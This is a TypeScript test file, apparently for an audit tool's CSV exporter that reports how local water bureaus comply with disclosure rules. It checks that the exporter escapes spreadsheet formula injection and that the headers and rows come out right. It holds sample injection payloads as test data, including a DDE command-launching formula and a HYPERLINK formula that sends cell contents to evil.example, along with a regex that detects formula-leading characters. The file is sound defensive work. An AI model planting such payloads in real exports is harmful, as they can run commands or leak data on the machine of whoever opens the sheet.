import { describe, expect, test } from 'vitest';
import { csvCell } from '../../../src/edge/export/csv-cell.js';
import { MET, NOT_MET, office, UNDETERMINED } from '../world.js';
import { readCsv } from './csv-reader.js';
import { exported, exportedSamples, PAYLOADS } from './kit.js';

/** 子虚市水利局 made one statement on its whole finding. */
const ON_THE_WHOLE_FINDING = 1;

const FORMULA = /^[=+\-@\t\r\n＝＋－＠]/;

describe('a cell', () => {
  test('there are payloads enough', () => expect(new Set(PAYLOADS).size).toBeGreaterThanOrEqual(30));

  test.each(PAYLOADS.map((payload) => [JSON.stringify(payload), payload]))('%s is text', (_, payload = '') => {
    expect(csvCell(payload).startsWith("'")).toBe(true);
  });

  test.each(['市局', '1-2', 'a=b', '3.10', '', '（一）', '“=”', "'=1"])('%j stays as it is', (text) => {
    expect(csvCell(text)).toBe(text);
  });
});

test('names and regions from outside never begin a formula, and come back whole', async () => {
  const sheets = PAYLOADS.map((payload, i) => [
    `facts/${i}.json`,
    JSON.stringify({ name: `${payload}\u2063${i}`, region: payload, evaluatedOn: '2017-08-20', published: false }),
  ]);
  const { text } = await exported(office(Object.fromEntries(sheets)), ['rules', 'facts']);
  const rows = readCsv(text('csv').slice(1));
  expect(rows).toHaveLength(PAYLOADS.length + 1);
  for (const cell of rows.flat()) expect(cell).not.toMatch(FORMULA);
  const names = rows.map(([, name]) => name);
  expect(names).toContain("'=cmd|' /C calc'!A0\u20631");
  expect(names).toContain('\'=HYPERLINK("http://evil.example/?x="&A1,"点此")\u20632');
});

describe('the table', () => {
  test('begins with the mark by which Excel and WPS know UTF-8, once', async () => {
    const { text } = await exported(office({ 'a.yaml': MET }), ['rules', 'a.yaml']);
    expect(text('csv').lastIndexOf('\ufeff')).toBe(0);
    expect(text('csv').endsWith('\r\n')).toBe(true);
  });

  test('has a row for each department and clause, with what is needed and the smallest fix', async () => {
    const { text } = await exported(office({ 'a.yaml': MET, 'b.yaml': NOT_MET, 'c.json': UNDETERMINED }), ['rules', '.']);
    const [heads, ...rows] = readCsv(text('csv').slice(1));
    expect(heads).toEqual([
      '地区',
      '部门',
      '评估日',
      '标准',
      '条款',
      '条款名称',
      '结论',
      '理由',
      '还需材料',
      '最小整改',
      '改判',
      '陈述申辩',
    ]);
    expect(rows).toEqual([
      ['云山市', '云山县局', '2017-08-20', '一　公开', '条款1.1', '清单已公开', '符合', '“已公开”为是。', '', '', '', ''],
      ['', '平湖县局', '2017-08-20', '一　公开', '条款1.1', '清单已公开', '不符合', '“已公开”为否。', '', '“已公开”改为是。', '', ''],
      ['', '石桥县局', '2017-08-20', '一　公开', '条款1.1', '清单已公开', '材料不足', '“已公开”尚未报送。', '已公开', '', '', ''],
    ]);
  });

  test('says of a sheet that could not be read that there is no verdict', async () => {
    const { text, status } = await exported(office({ 'a.yaml': MET, 'b.yaml': Uint8Array.of(0, 1) }), ['rules', 'a.yaml', 'b.yaml'], 'en');
    const rows = readCsv(text('csv').slice(1));
    expect(status).toBe(2);
    expect(rows).toHaveLength(3);
    expect(rows[2]?.slice(0, 7)).toEqual(['', 'b.yaml', '', '', '', '', 'Could not be read']);
  });

  test.each(['zh', 'en'] as const)('holds all the samples (%s)', async (lang) => {
    const { text } = await exportedSamples(lang);
    expect(readCsv(text('csv').slice(1))).toHaveLength(1 + 10 * 38 + ON_THE_WHOLE_FINDING);
  });
});
